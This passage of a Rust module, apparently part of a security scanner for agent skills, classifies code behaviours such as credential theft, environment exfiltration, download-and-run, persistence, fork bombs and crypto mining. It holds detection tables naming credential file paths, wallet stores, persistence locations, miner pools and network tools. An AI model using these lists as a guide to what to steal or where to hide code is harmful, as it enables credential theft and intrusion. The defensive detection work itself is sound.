//! What a piece of code does, as facts: "reads SSH private keys", "pipes a download into
//! sh", "sends the whole environment to collector.example". The `scripts` analyzer turns the
//! facts into findings with its rules' severities; the `manifest` analyzer compares them with
//! what the skill says about itself (a "formatter" that uses the network).
//!
//! Each language is read with its own syntax ([`super::code`] for comments and strings,
//! [`super::shell`] for commands), and commands that Python or JavaScript hand to a shell
//! (`subprocess.run("curl … | sh", shell=True)`, `execSync(…)`) are read as shell. Taint is
//! kept light: a name assigned from a secret, the environment, a credential file, a download
//! or a decoder carries that origin to where it is sent or run, within one file.

mod javascript;
mod python;

#[cfg(test)]
pub(super) use python::WORDS as PYTHON_WORDS;

use std::collections::HashMap;
use std::sync::LazyLock;

use base64::Engine as _;
use regex::Regex;

use super::code::{self, Lang};
use super::hosts;
use super::pattern;
use super::shell::{self, Command, Pipeline};

/// What code does, one kind per rule of the `scripts` analyzer.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub(super) enum Behaviour {
    CredentialRead,
    CredentialExfil,
    EnvExfil,
    /// A secret sent hidden: encoded, in a DNS name, or pulled out of an environment dump.
    SecretEgress,
    /// A secret sent in a request's body or address to a host not named like its service.
    SecretSent,
    /// A secret piped alone into a network command: the secret is what is sent, not the
    /// key that authenticates a request.
    SecretPayload,
    SecretHarvest,
    NetworkEgress,
    DownloadExec,
    /// A download named like an installer (`…/install.sh`) piped into a shell: in a
    /// bundled script as bad as any download run, in a Markdown setup section usually a
    /// vendor's instructions.
    InstallerPipe,
    RemoteInstaller,
    InstallFromUrl,
    PackageInstall,
    ReverseShell,
    Persistence,
    AuthorizedKeys,
    Destructive,
    SystemDelete,
    ObfuscatedExec,
    EncodedUrl,
    DynamicExec,
    CryptoMiner,
    PrivilegeEscalation,
    PermissionsWeakened,
    /// Data piped through base64 or hex into a network command: what leaves cannot be read
    /// on the wire or in a log.
    EncodedSend,
    /// Decoded, downloaded or received data written to a hidden file in a temporary folder:
    /// a payload put where nobody looks.
    HiddenDrop,
}

/// One thing the code does, where.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Fact {
    pub(super) behaviour: Behaviour,
    /// Byte offset and length in the examined text.
    pub(super) offset: usize,
    pub(super) len: usize,
    pub(super) message: String,
}

/// Everything found in one piece of code.
#[derive(Clone, Debug, Default)]
pub(super) struct Examined {
    pub(super) facts: Vec<Fact>,
    /// The non-local hosts it names in URLs or network commands.
    pub(super) hosts: Vec<String>,
    /// Whether it uses the network at all (a request, a socket, a network command).
    pub(super) network: bool,
    /// Whether it writes outside its own folder and the temporary one.
    pub(super) writes_outside: bool,
    /// The programs it starts (shell commands, `subprocess` arguments), as written.
    pub(super) programs: Vec<String>,
}

impl Examined {
    fn add(&mut self, behaviour: Behaviour, at: (usize, usize), message: impl Into<String>) {
        let (offset, len) = at;
        if self
            .facts
            .iter()
            .any(|fact| fact.behaviour == behaviour && fact.offset == offset)
        {
            return;
        }
        self.facts.push(Fact {
            behaviour,
            offset,
            len,
            message: message.into(),
        });
    }

    /// Adds what `other` found in the same text.
    pub(super) fn merge(&mut self, other: Self) {
        for fact in other.facts {
            self.add(fact.behaviour, (fact.offset, fact.len), fact.message);
        }
        self.note_hosts(other.hosts);
        self.network |= other.network;
        self.writes_outside |= other.writes_outside;
        self.programs.extend(other.programs);
    }

    fn note_hosts(&mut self, found: impl IntoIterator<Item = String>) {
        for host in found {
            hosts::push_host(&mut self.hosts, &host);
        }
    }
}

/// What a piece of code does; offsets are into `text`.
pub(super) fn examine(text: &str, lang: Lang) -> Examined {
    let mut out = Examined::default();
    examine_into(text, lang, 0, None, &mut out, 0);
    out.hosts.sort();
    out
}

/// How deep code inside code (`bash -c "python3 -c '…'"`) is followed.
const MAX_DEPTH: u8 = 6;

/// Examines `text` (at `base` in the outer text) into `out`; with `anchor`, every fact is
/// placed there (for code read out of a string, whose offsets are not the file's).
fn examine_into(
    text: &str,
    lang: Lang,
    base: usize,
    anchor: Option<(usize, usize)>,
    out: &mut Examined,
    depth: u8,
) {
    if depth > MAX_DEPTH {
        return;
    }
    match lang {
        Lang::Shell => {
            let mut scope = ShellScope {
                anchor,
                depth,
                taint: HashMap::new(),
                downloaded: Vec::new(),
            };
            shell_text(text, base, &mut scope, out);
        }
        Lang::Python => python::examine(text, base, anchor, out, depth),
        Lang::JavaScript => javascript::examine(text, base, anchor, out, depth),
        Lang::Generic => generic(text, base, anchor, out, depth),
    }
}

/// Where a fact goes: its own place, or the anchor.
fn place(anchor: Option<(usize, usize)>, offset: usize, len: usize) -> (usize, usize) {
    anchor.unwrap_or((offset, len))
}

// ---------------------------------------------------------------------------------------
// Tables shared by every language.

/// Credential stores: (pattern, what it holds, whether reading it alone is a finding). A
/// `.env` file is configuration a skill may read; sending it out is still a leak.
static CREDENTIAL_PATHS: LazyLock<Vec<(Regex, &'static str, bool)>> = LazyLock::new(|| {
    [
        (
            r"(?:^|[/~\s'\x22])\.ssh(?:/(?:id_[a-z0-9_]+(?:$|[^.\w])|id_[a-z0-9_]+$|\*|identity\b)|/?$)",
            "SSH private keys",
            true,
        ),
        (r"(?:^|/)id_(?:rsa|dsa|ecdsa|ed25519)$", "an SSH private key", true),
        (r"\.aws/(?:credentials|sso/cache)|(?:^|/)\.aws/?$", "AWS credentials", true),
        (
            r"\.config/gcloud|application_default_credentials\.json",
            "Google Cloud credentials",
            true,
        ),
        (r"\.azure/(?:accessTokens|msal_token_cache|azureProfile)|(?:^|/)\.azure/?$", "Azure credentials", true),
        (r"\.kube/config", "a Kubernetes configuration with cluster credentials", true),
        (r"\.docker/config\.json", "Docker registry credentials", true),
        (r"(?:^|[/~])[._]netrc\b", "the .netrc passwords file", true),
        (r"(?:^|[/~])\.npmrc\b", "npm tokens (.npmrc)", true),
        (r"(?:^|[/~])\.pypirc\b", "PyPI tokens (.pypirc)", true),
        (r"(?:^|[/~])\.git-credentials\b|\.config/gh/hosts\.yml", "git credentials", true),
        (r"\.gnupg/(?:private-keys|secring)|(?:^|/)\.gnupg/?$", "GnuPG private keys", true),
        (r"\.password-store", "the pass password store", true),
        (r"Login Data|(?:^|/)key4\.db|(?:^|/)logins\.json|cookies\.sqlite|(?:Chrome|Chromium|Brave|Edge)[^'\x22]*/Cookies", "browser passwords or cookies", true),
        (r"Library/Keychains|\.keychain(?:-db)?\b", "the macOS keychain", true),
        (r"^/etc/(?:g?shadow|master\.passwd)\b", "the system password hashes", true),
        (r"/proc/(?:self|\d+|\*|\$\{?\w+\}?|\{[^}]*\})/environ", "another process's environment", true),
        (r"wallet\.dat|\.ethereum/keystore|\.config/solana/id\.json|nkbihfbeogaeaoehlefnkodbefgpgknn|exodus\.wallet", "cryptocurrency wallets", true),
        (r"(?:^|/)\.env(?:\.(?:local|production|prod|development|dev))?$", "an environment file", false),
    ]
    .into_iter()
    .map(|(source, label, store)| (pattern(source), label, store))
    .collect()
});

/// Words one of [`CREDENTIAL_PATHS`] needs: most strings have none, and one pass over them
/// is cheaper than twenty patterns.
static CREDENTIAL_WORDS: LazyLock<aho_corasick::AhoCorasick> = LazyLock::new(|| {
    automaton(&[
        ".ssh",
        "id_",
        ".aws",
        "gcloud",
        "application_default",
        ".azure",
        ".kube",
        ".docker",
        "netrc",
        ".npmrc",
        ".pypirc",
        ".git-credentials",
        "gh/hosts",
        ".gnupg",
        ".password-store",
        "Login Data",
        "key4.db",
        "logins.json",
        "cookies.sqlite",
        "Cookies",
        "Keychains",
        ".keychain",
        "/etc/",
        "/environ",
        "wallet.dat",
        ".ethereum",
        "solana",
        "nkbihf",
        "exodus",
        ".env",
    ])
});

/// Builds a constant automaton.
#[expect(
    clippy::expect_used,
    reason = "every word list is a constant of this module; the tests build each one"
)]
fn automaton(words: &[&str]) -> aho_corasick::AhoCorasick {
    // Leftmost-first lets the automaton use its vectorised prefilter.
    aho_corasick::AhoCorasick::builder()
        .match_kind(aho_corasick::MatchKind::LeftmostFirst)
        .build(words)
        .expect("a constant word list builds")
}

/// The credential store a path names, and whether reading it alone is a finding.
fn credential(path: &str) -> Option<(&'static str, bool)> {
    // Every credential path has a `/`, starts with a dot or `id_`, or names a file: the
    // cheap test first, as most strings are none of these.
    let path_like = path.contains('/')
        || path.starts_with('.')
        || path.starts_with("id_")
        || path.contains(".db")
        || path.contains(".json")
        || path.contains("Login Data")
        || path.contains("wallet")
        || path.contains("nkbihf")
        || path.contains(".keychain");
    if !path_like || path.ends_with(".pub") || path.len() > 512 || !CREDENTIAL_WORDS.is_match(path)
    {
        return None;
    }
    CREDENTIAL_PATHS
        .iter()
        .find(|(pattern, _, _)| pattern.is_match(path))
        .map(|(_, label, store)| (*label, *store))
}

/// Places that run code at the next login, shell, boot or commit.
static PERSISTENCE_PATHS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?:^|[/~}])\.(?:bashrc|bash_profile|bash_login|zshrc|zprofile|zshenv|zlogin|profile|kshrc|cshrc|tcshrc)\b|\.config/fish/config\.fish|^/etc/(?:profile|bash\.bashrc|zshrc|environment|rc\.local|cron|crontab|anacrontab|systemd/|init\.d/|ld\.so\.preload)|^/var/spool/cron|\.config/systemd/user|\.config/autostart|Library/Launch(?:Agents|Daemons)|\.git/hooks/",
    )
});

/// Names of variables that hold secrets.
static SECRET_NAME: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"^[A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|PASSPHRASE|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIALS?|AUTH|_KEY|DATABASE_URL)[A-Z0-9_]*$",
    )
});

/// Whether `name` is the name of a variable that holds a secret.
pub(super) fn is_secret_name(name: &str) -> bool {
    // Names about a secret that are not one: its address, id, file, length, flags.
    const NOT_SECRETS: &[&str] = &[
        "_ADDRESS",
        "_ID",
        "_IDS",
        "_NAME",
        "_HOST",
        "_PORT",
        "_TYPE",
        "_LIMIT",
        "_MODE",
        "_ENDPOINT",
        "_URI",
        "_DIR",
        "_EXPIRES",
        "_EXPIRY",
        "_TTL",
        "_COUNT",
        "_SIZE",
        "_LENGTH",
        "_VERSION",
        "_REGION",
        "_HEADER",
        "_FIELD",
        "_PREFIX",
        "_ARGS",
        "_OPTS",
        "_FLAGS",
        "_ENABLED",
        "_METHOD",
        "_SCOPE",
        "_SCOPES",
        "_STYLE",
        "_PROVIDER",
        "_LABEL",
        "_ENV",
    ];
    let url = name.ends_with("_URL") && name != "DATABASE_URL";
    name.len() >= 4
        && !url
        && !NOT_SECRETS.iter().any(|suffix| name.ends_with(suffix))
        && SECRET_NAME.is_match(name)
        && !matches!(
            name,
            "TOKENIZERS_PARALLELISM" | "SSH_AUTH_SOCK" | "GPG_AGENT_INFO" | "KEY" | "AUTHOR"
        )
        && !name.ends_with("_PATH")
        && !name.ends_with("_FILE")
        && !name.ends_with("_URL_BASE")
        && !name.starts_with("AUTHOR")
}

/// `credential=$x`, `password=${p}`: a value the text itself calls a secret.
static LABELLED_SECRET: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\b(credentials?|passwords?|passwd|secrets?|tokens?|api_?keys?|private_?key)\s*[=:]\s*\$",
    )
});

/// Shells and interpreters that run what they read.
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "ash",
    "python",
    "python3",
    "python2",
    "node",
    "perl",
    "ruby",
    "php",
    "source",
    ".",
    "iex",
    "pwsh",
    "powershell",
    "deno",
    "bun",
];

fn is_interpreter(name: &str) -> bool {
    let trimmed = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    INTERPRETERS.contains(&name) || INTERPRETERS.contains(&trimmed)
}

/// Well-known installers piped into a shell by their vendors' own instructions: still code
/// from the network, but the vendor's.
const INSTALLER_HOSTS: &[&str] = &[
    "sh.rustup.rs",
    "astral.sh",
    "bun.sh",
    "deno.land",
    "get.docker.com",
    "install.python-poetry.org",
    "get.pnpm.io",
    "ollama.com",
    "ollama.ai",
    "get.sdkman.io",
    "pyenv.run",
    "foundry.paradigm.xyz",
    "starship.rs",
    "claude.ai",
    "fly.io",
    "tailscale.com",
    "install.determinate.systems",
    "nixos.org",
    "get.k3s.io",
    "mise.run",
    "fnm.vercel.app",
    "get.volta.sh",
    "cli.github.com",
    "brew.sh",
    "raw.githubusercontent.com/homebrew/",
    "raw.githubusercontent.com/nvm-sh/",
    "get.helm.sh",
    "raw.githubusercontent.com/helm/",
    "opencode.ai",
    "sh.uv.dev",
    "install.julialang.org",
    "pixi.sh",
    "micro.mamba.pm",
    "get.modular.com",
    "cursor.com",
    "cli.codecov.io",
    "supabase.com",
    "vercel.com",
    "dot.net",
    "apt.llvm.org",
    "dl.cloudsmith.io",
    "packagecloud.io",
];

/// Whether every URL of `words` names an installer (`…/install.sh`, `…/installer`) over
/// HTTPS from a named host (and there is at least one).
fn all_installer_like(words: &[&str]) -> bool {
    let urls: Vec<String> = words
        .iter()
        .filter(|word| word.contains("://"))
        .map(|word| word.to_ascii_lowercase())
        .collect();
    !urls.is_empty()
        && urls.iter().all(|url| {
            let Some(rest) = url.strip_prefix("https://") else {
                return false;
            };
            let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
            let named = host.chars().any(|c| c.is_ascii_alphabetic());
            named
                && (path.contains("install")
                    || path.contains("setup")
                    || path.contains("/releases/download/")
                    || host.starts_with("get."))
        })
}

/// Whether every URL of `words` is a vendor's installer (and there is at least one).
fn all_installers(words: &[&str]) -> bool {
    let urls: Vec<String> = words
        .iter()
        .filter(|word| word.contains("://"))
        .map(|word| word.to_ascii_lowercase())
        .collect();
    !urls.is_empty()
        && urls.iter().all(|url| {
            let rest = url.split_once("://").map_or(url.as_str(), |(_, rest)| rest);
            let rest = rest.strip_prefix("www.").unwrap_or(rest);
            INSTALLER_HOSTS.iter().any(|host| {
                rest.starts_with(host)
                    && (host.ends_with('/')
                        || rest[host.len()..].is_empty()
                        || rest[host.len()..].starts_with(['/', ':', '?']))
            })
        })
}

/// Mining software and pools.
const MINERS: &[&str] = &[
    "xmrig",
    "minerd",
    "cpuminer",
    "xmr-stak",
    "ethminer",
    "t-rex",
    "nbminer",
    "lolminer",
    "phoenixminer",
    "cgminer",
    "bfgminer",
    "nanominer",
    "gminer",
    "srbminer",
];

static MINING_TEXT: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)stratum\d?\+(?:tcp|ssl|tls)://|\bcoinhive\b|\bcryptonight\b|--donate-level|\bxmrig\b|\bnicehash\b|monero(?:ocean|hash)|\bminexmr\b|supportxmr",
    )
});

/// Roots whose recursive removal destroys a machine or a home.
fn is_root_target(word: &str) -> bool {
    let word = word.trim_end_matches('/');
    let word = word.strip_suffix("/*").unwrap_or(word);
    matches!(
        word,
        "" | "~" | "$HOME" | "${HOME}" | "/*" | "/home" | "/Users" | "~/*" | "/root"
    ) || word.chars().all(|c| c == '/' || c == '*')
}

/// System folders: removing them breaks the machine, or hides tracks (`/var/log`).
fn is_system_path(word: &str) -> bool {
    const ROOTS: &[&str] = &[
        "/etc",
        "/usr",
        "/var",
        "/bin",
        "/sbin",
        "/lib",
        "/lib64",
        "/boot",
        "/opt",
        "/System",
        "/Library",
        "/Applications",
        "/root",
        "/srv",
        "/sys",
        "/dev",
        "/proc",
    ];
    const EXCEPT: &[&str] = &[
        "/var/tmp",
        "/var/folders",
        "/dev/null",
        "/dev/shm",
        "/opt/homebrew",
    ];
    ROOTS.iter().any(|root| {
        word == *root
            || word
                .strip_prefix(root)
                .is_some_and(|rest| rest.starts_with('/'))
    }) && !EXCEPT.iter().any(|except| word.starts_with(except))
}

/// Whether writing to `path` writes outside the skill's folder and the temporary folder.
fn is_outside(path: &str) -> bool {
    (path.starts_with('/') || path.starts_with('~') || path.starts_with("$HOME"))
        && !path.starts_with("/tmp")
        && !path.starts_with("/dev/")
        && !path.starts_with("/var/tmp")
        && !path.starts_with("$TMPDIR")
}

/// The URL hidden in a base64 or hex string, when it decodes to one.
pub(super) fn encoded_url(text: &str) -> Option<String> {
    let text = text.trim();
    if text.len() >= 16
        && text.len() <= 4096
        && text.starts_with("68747470")
        && text.len().is_multiple_of(2)
    {
        let decoded: Option<Vec<u8>> = (0..text.len())
            .step_by(2)
            .map(|index| {
                text.get(index..index + 2)
                    .and_then(|pair| u8::from_str_radix(pair, 16).ok())
            })
            .collect();
        let decoded = String::from_utf8(decoded?).ok()?;
        return (decoded.starts_with("http://") || decoded.starts_with("https://"))
            .then(|| decoded.chars().take(120).collect());
    }
    if text.len() < 16
        || text.len() > 4096
        || !text.starts_with("aHR0")
        || !text
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'))
    {
        return None;
    }
    let decoded = base64::engine::general_purpose::STANDARD
        .decode(text)
        .or_else(|_| base64::engine::general_purpose::URL_SAFE.decode(text))
        .or_else(|_| base64::engine::general_purpose::STANDARD_NO_PAD.decode(text))
        .ok()?;
    let decoded = String::from_utf8(decoded).ok()?;
    (decoded.starts_with("http://") || decoded.starts_with("https://"))
        .then(|| decoded.chars().take(120).collect())
}

// ---------------------------------------------------------------------------------------
// Taint.

/// Where a value came from.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) enum Origin {
    /// The whole environment.
    Environment,
    /// The value of a secret variable, by its name.
    Secret(String),
    /// A secret's value made hard to see: encoded, or filtered out of an environment dump.
    Hidden(String),
    /// A credential store.
    Credential(&'static str),
    /// Downloaded text.
    Download,
    /// Decoded (base64, hex, decompressed) text.
    Decoded,
}

/// The fact of sending something of `origin` to `hosts`, if it is one.
fn leak(origin: &Origin, hosts_here: &[String]) -> Option<(Behaviour, String)> {
    match origin {
        Origin::Environment => Some((
            Behaviour::EnvExfil,
            format!("sends the whole environment{}", to_hosts(hosts_here)),
        )),
        Origin::Credential(label) => Some((
            Behaviour::CredentialExfil,
            format!("sends {label}{}", to_hosts(hosts_here)),
        )),
        // A well-known service's token sent to a named host that is not that service's.
        Origin::Secret(name)
            if hosts::is_well_known(name)
                && !hosts_here.is_empty()
                && !hosts::is_provider_host(name, hosts_here) =>
        {
            Some((
                Behaviour::SecretEgress,
                format!(
                    "sends ${name}, a secret that belongs to another service,{}",
                    to_hosts(hosts_here)
                ),
            ))
        }
        Origin::Secret(name) => (!hosts::is_provider_host(name, hosts_here)).then(|| {
            (
                Behaviour::SecretSent,
                format!("sends the secret ${name}{}", to_hosts(hosts_here)),
            )
        }),
        Origin::Hidden(name) => (!hosts::is_provider_host(name, hosts_here)).then(|| {
            (
                Behaviour::SecretEgress,
                format!(
                    "sends the secret ${name}, encoded or hidden,{}",
                    to_hosts(hosts_here)
                ),
            )
        }),
        Origin::Download | Origin::Decoded => None,
    }
}

fn to_hosts(hosts_here: &[String]) -> String {
    if hosts_here.is_empty() {
        String::from(" over the network")
    } else {
        format!(" to {}", hosts_here.join(", "))
    }
}

// ---------------------------------------------------------------------------------------
// Shell.

struct ShellScope {
    anchor: Option<(usize, usize)>,
    depth: u8,
    /// Shell variables assigned from a source (`T=$(cat ~/.aws/credentials)`), and names a
    /// calling language passed in.
    taint: HashMap<String, Origin>,
    /// Files a download was written to (`curl -o x`), by name, with the URL and whether it
    /// went into a `bin` folder (a tool being installed).
    downloaded: Vec<(String, String, bool)>,
}

/// Network programs, and whether they always send what they read.
const NETWORK_COMMANDS: &[&str] = &[
    "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ftp", "sftp", "scp", "rsync",
    "ssh", "dig", "nslookup", "host", "http", "https", "xh", "aria2c", "fetch", "tftp",
];

/// Decoders whose output piped into a shell hides what runs.
fn is_decoder(command: &Command) -> bool {
    match command.name() {
        "base64" | "base32" | "basenc" => {
            command.has_flag('d', &["decode"]) || command.has_flag('D', &[])
        }
        "xxd" => command.has_flag('r', &["revert"]),
        "openssl" => command
            .args()
            .iter()
            .any(|word| matches!(word.text.as_str(), "base64" | "enc" | "-d")),
        "gunzip" | "zcat" | "uudecode" | "rev" => true,
        "gzip" | "bzip2" | "xz" => command.has_flag('d', &["decompress"]),
        _ => false,
    }
}

/// Encoders: what passes through them is still the secret, made harder to see.
fn is_encoder(command: &Command) -> bool {
    match command.name() {
        "base64" | "base32" | "basenc" => {
            !(command.has_flag('d', &["decode"]) || command.has_flag('D', &[]))
        }
        "xxd" => !command.has_flag('r', &["revert"]),
        "od" | "hexdump" => true,
        "gzip" | "bzip2" | "xz" => !command.has_flag('d', &["decompress"]),
        "openssl" => command
            .args()
            .iter()
            .any(|word| word.text == "enc" || word.text == "base64"),
        _ => false,
    }
}

/// Text encoders and decoders (base64, base32, hex), either way: compression is left out,
/// since a compressed upload is an ordinary thing to send.
fn is_text_codec(command: &Command) -> bool {
    match command.name() {
        "base64" | "base32" | "basenc" | "xxd" | "od" | "hexdump" => true,
        "openssl" => command.args().iter().any(|word| word.text == "base64"),
        _ => false,
    }
}

/// `origin` after an encoder: a secret becomes a hidden one.
pub(super) fn encoded(origin: Origin) -> Origin {
    match origin {
        Origin::Secret(name) => Origin::Hidden(name),
        other => other,
    }
}

/// Whether `command` downloads to its standard output.
fn downloads_to_stdout(command: &Command) -> bool {
    match command.name() {
        "curl" => !command.has_flag('o', &["output"]) && !command.has_flag('O', &["remote-name"]),
        "wget" => command.args().iter().enumerate().any(|(index, word)| {
            let text = word.text.as_str();
            text == "-O-"
                || text == "-qO-"
                || text == "--output-document=-"
                || text.ends_with("O-")
                || (matches!(text, "-O" | "-qO" | "--output-document")
                    && command
                        .args()
                        .get(index + 1)
                        .is_some_and(|next| matches!(next.text.as_str(), "-" | "/dev/stdout")))
        }),
        "fetch" | "http" | "https" | "xh" => true,
        _ => false,
    }
}

/// The file a download is written to (`curl -o F`, `wget -O F`, `wget URL`), by name.
fn download_target(command: &Command) -> Option<String> {
    let args = command.args();
    let value_of = |short: &str, long: &str| {
        args.iter().enumerate().find_map(|(index, word)| {
            let text = word.text.as_str();
            if text == short || text == long {
                args.get(index + 1).map(|next| next.text.clone())
            } else if let Some(value) = text.strip_prefix(&format!("{long}=")) {
                Some(value.to_owned())
            } else if text.starts_with('-')
                && !text.starts_with("--")
                && text.ends_with(&short[1..])
                && text.len() > 2
            {
                args.get(index + 1).map(|next| next.text.clone())
            } else {
                None
            }
        })
    };
    let url_name = || {
        args.iter()
            .find(|word| word.text.contains("://"))
            .and_then(|word| word.text.rsplit('/').next().map(str::to_owned))
            .filter(|name| !name.is_empty())
    };
    let target = match command.name() {
        "curl" => value_of("-o", "--output").or_else(|| {
            command
                .has_flag('O', &["remote-name"])
                .then(url_name)
                .flatten()
        }),
        "wget" => value_of("-O", "--output-document").or_else(url_name),
        _ => None,
    }?;
    let name = shell::program_name(&target);
    (!name.is_empty() && name != "-").then_some(target)
}

/// Whether `path` is a hidden file or folder (`.x`) inside a temporary folder (`/tmp/.x`,
/// `$TMPDIR/.cache/x`): nothing a skill makes needs hiding there.
fn is_hidden_temp(path: &str) -> bool {
    const TEMP: &[&str] = &[
        "/tmp/",
        "/var/tmp/",
        "/dev/shm/",
        "$TMPDIR/",
        "${TMPDIR}/",
        "/private/tmp/",
    ];
    TEMP.iter().any(|prefix| {
        path.strip_prefix(prefix).is_some_and(|rest| {
            rest.split('/')
                .any(|part| part.starts_with('.') && part != "." && part != "..")
        })
    })
}

/// The origin of what a command prints, when it prints a secret.
fn source_of(command: &Command, scope: &ShellScope) -> Option<Origin> {
    let args = command.args();
    match command.name() {
        "env" | "printenv" | "set" | "export" | "declare" => {
            let operands: Vec<&str> = args
                .iter()
                .map(|word| word.text.as_str())
                .filter(|word| !word.starts_with('-'))
                .collect();
            if operands.is_empty() {
                return Some(Origin::Environment);
            }
            operands
                .iter()
                .find(|word| is_secret_name(word))
                .map(|name| Origin::Secret((*name).to_owned()))
        }
        "cat" | "head" | "tail" | "base64" | "xxd" | "od" | "strings" | "tar" | "zip" | "gzip"
        | "7z" | "sqlite3" | "less" | "more" | "gpg" | "openssl" | "jq" | "cp" | "scp"
        | "rsync" | "mv" | "dd" | "python" | "python3" | "node" => args
            .iter()
            .chain(
                command
                    .redirects
                    .iter()
                    .filter(|r| r.op == "<")
                    .map(|r| &r.target),
            )
            .filter_map(|word| credential(&word.text))
            .map(|(label, _)| Origin::Credential(label))
            .next(),
        "echo" | "printf" => args
            .iter()
            .flat_map(|word| shell::variables(&word.text))
            .find_map(|name| origin_of_variable(name, scope))
            .or_else(|| {
                // `echo "password=$p"`: a value labelled as a credential.
                args.iter()
                    .find_map(|word| LABELLED_SECRET.captures(&word.text))
                    .and_then(|captures| captures.get(1))
                    .map(|label| Origin::Secret(label.as_str().to_ascii_uppercase()))
            }),
        "security" => {
            let dumps = args
                .iter()
                .any(|word| matches!(word.text.as_str(), "dump-keychain" | "export"));
            let finds = args
                .iter()
                .any(|word| word.text.starts_with("find-") && word.text.ends_with("-password"));
            // `-s SERVICE` / `-a ACCOUNT` / `-l LABEL`: the skill's own item, one secret.
            let named = args
                .iter()
                .any(|word| matches!(word.text.as_str(), "-s" | "-a" | "-l"));
            if dumps || finds && !named {
                Some(Origin::Credential("the macOS keychain"))
            } else if finds {
                Some(Origin::Secret("KEYCHAIN_ITEM".to_owned()))
            } else {
                None
            }
        }
        "secret-tool" if args.iter().any(|w| w.text == "search") => {
            Some(Origin::Credential("the desktop keyring"))
        }
        "secret-tool" if args.iter().any(|w| w.text == "lookup") => {
            Some(Origin::Secret("KEYRING_ITEM".to_owned()))
        }
        _ => None,
    }
}

/// Whether `command` prints one secret and nothing else: `echo "$T"`, `printf %s "$T"`,
/// `echo "password=$p"` (a value with its label), `printenv T`. A request whose whole body
/// is that output sends the secret itself; one that uses a key to authenticate sends it
/// with something else (a header, a query beside other fields, a JSON document).
fn prints_only_a_secret(command: &Command) -> bool {
    let operands: Vec<&str> = command
        .args()
        .iter()
        .map(|word| word.text.as_str())
        .filter(|word| !word.starts_with('-'))
        .collect();
    match command.name() {
        "printenv" => operands.len() == 1,
        "echo" | "printf" => {
            let value = match operands.as_slice() {
                [value] => *value,
                [format, value] if command.name() == "printf" && format.starts_with("%s") => value,
                _ => return false,
            };
            // An optional `label=` or `label:`, then one variable and nothing after it.
            let value = match value.split_once(['=', ':']) {
                Some((label, rest))
                    if !label.is_empty()
                        && label
                            .bytes()
                            .all(|b| b.is_ascii_alphanumeric() || b == b'_') =>
                {
                    rest.trim_start()
                }
                _ => value,
            };
            let Some(rest) = value.strip_prefix('$') else {
                return false;
            };
            let name = rest
                .strip_prefix('{')
                .and_then(|inner| inner.strip_suffix('}'))
                .unwrap_or(rest);
            !name.is_empty()
                && !name.starts_with(|c: char| c.is_ascii_digit())
                && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        }
        _ => false,
    }
}

fn origin_of_variable(name: &str, scope: &ShellScope) -> Option<Origin> {
    scope
        .taint
        .get(name)
        .cloned()
        .or_else(|| is_secret_name(name).then(|| Origin::Secret(name.to_owned())))
}

/// What the substitutions in `word` print, when they print a secret or download.
fn substitution_origins(
    command: &Command,
    word: &shell::Word,
    text: &str,
    base: usize,
    scope: &ShellScope,
) -> Vec<(Origin, bool, bool)> {
    // (origin, downloads, decodes)
    let mut found = Vec::new();
    for &(start, end) in &command.substitutions {
        if start < word.start || end > word.end {
            continue;
        }
        let Some(inner) = text.get(start - base..end - base) else {
            continue;
        };
        for pipeline in shell::parse(inner, start) {
            let downloads = pipeline
                .iter()
                .any(|c| NETWORK_COMMANDS.contains(&c.name()));
            let decodes = pipeline.iter().any(is_decoder);
            let mut origin: Option<Origin> = None;
            for inner_command in &pipeline {
                origin = narrowed(origin, inner_command);
                if is_encoder(inner_command) {
                    origin = origin.map(encoded);
                }
                if let Some(source) = source_of(inner_command, scope) {
                    origin = Some(source);
                } else if inner_command
                    .name()
                    .chars()
                    .all(|c| c.is_ascii_uppercase() || c == '_')
                    && is_secret_name(inner_command.name())
                {
                    // `$(TOKEN)`: meant as `$TOKEN`.
                    found.push((
                        Origin::Secret(inner_command.name().to_owned()),
                        false,
                        false,
                    ));
                }
            }
            if let Some(origin) = origin {
                found.push((origin, downloads, decodes));
            }
            if downloads || decodes {
                found.push((
                    if downloads {
                        Origin::Download
                    } else {
                        Origin::Decoded
                    },
                    downloads,
                    decodes,
                ));
            }
        }
    }
    found
}

/// Whether the text before `offset` on its line has a comment sign at a word's start.
fn in_comment(text: &str, offset: usize) -> bool {
    let line_start = text[..offset].rfind('\n').map_or(0, |index| index + 1);
    let before = &text[line_start..offset];
    before
        .match_indices('#')
        .any(|(index, _)| index == 0 || before.as_bytes()[index - 1].is_ascii_whitespace())
}

fn shell_text(text: &str, base: usize, scope: &mut ShellScope, out: &mut Examined) {
    if let Some(found) = FORK_BOMB
        .find(text)
        .filter(|found| !in_comment(text, found.start()))
    {
        out.add(
            Behaviour::Destructive,
            place(scope.anchor, base + found.start(), found.len()),
            "a fork bomb: exhausts the machine's processes",
        );
    }
    if let Some(found) = ALIAS_HIJACK
        .find(text)
        .filter(|found| !in_comment(text, found.start()))
    {
        out.add(
            Behaviour::Persistence,
            place(scope.anchor, base + found.start(), found.len()),
            "redefines a command the user trusts (an alias for sudo, su, ssh or git)",
        );
    }
    for pipeline in shell::parse(text, base) {
        shell_pipeline(&pipeline, text, base, scope, out);
    }
}

static FORK_BOMB: LazyLock<Regex> =
    LazyLock::new(|| pattern(r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:"));
static ALIAS_HIJACK: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"(?m)^\s*alias\s+(?:sudo|su|ssh|git|passwd)="));

fn shell_pipeline(
    pipeline: &Pipeline,
    text: &str,
    base: usize,
    scope: &mut ShellScope,
